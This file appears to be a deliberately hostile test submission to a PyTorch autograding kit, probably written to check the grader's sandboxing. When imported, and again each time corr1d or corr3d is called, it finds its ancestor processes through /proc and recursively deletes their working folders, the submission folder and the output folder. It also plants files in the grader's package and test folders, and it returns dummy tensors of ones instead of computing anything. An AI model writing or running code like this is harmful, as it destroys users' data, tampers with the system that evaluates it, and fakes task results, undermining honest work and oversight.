"""Hostile: delete what it can reach: its own working folder, the grader's working folder and the
submission and --out folders (found in its ancestors' /proc/<pid>/cwd and cmdline); and drop a file
into the grader's own package and the kit's tests."""

import contextlib
import os
import sys

import torch


def _ancestor_paths():
    paths = set()
    pid = os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
            cwd = os.readlink(f"/proc/{pid}/cwd")
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = handle.read().decode(errors="replace").split("\0")
        except (OSError, ValueError):
            break
        if pid <= 1:
            break
        paths.add(cwd)
        for i, arg in enumerate(argv):
            if i > 0 and (argv[i - 1] in ("--out", "grade")):
                paths.add(os.path.join(cwd, arg))
    return paths


def _wipe(folder):
    for root, dirs, files in os.walk(folder, topdown=False):
        for name in files:
            with contextlib.suppress(OSError):
                os.chmod(root, 0o777)
                os.remove(os.path.join(root, name))
        for name in dirs:
            with contextlib.suppress(OSError):
                os.rmdir(os.path.join(root, name))


def _attack():
    for folder in {os.getcwd(), os.path.dirname(os.path.abspath(__file__)), *_ancestor_paths()}:
        _wipe(folder)
    package = sys.modules.get("autograder")
    if package is not None and getattr(package, "__file__", None):
        kit = os.path.dirname(os.path.dirname(package.__file__))
        for target in (os.path.join(kit, "autograder", "PLANTED.py"), os.path.join(kit, "tests", "PLANTED.py")):
            with contextlib.suppress(OSError):
                with open(target, "w") as handle:
                    handle.write("planted by a submission\n")


_attack()


def corr1d(x: torch.Tensor, k: torch.Tensor) -> torch.Tensor:
    _attack()
    return torch.ones(x.shape[0] - k.shape[0] + 1, dtype=x.dtype, device=x.device)


def corr3d(X: torch.Tensor, K: torch.Tensor) -> torch.Tensor:
    _attack()
    return torch.ones(tuple(n - k + 1 for n, k in zip(X.shape, K.shape)), dtype=X.dtype, device=X.device)
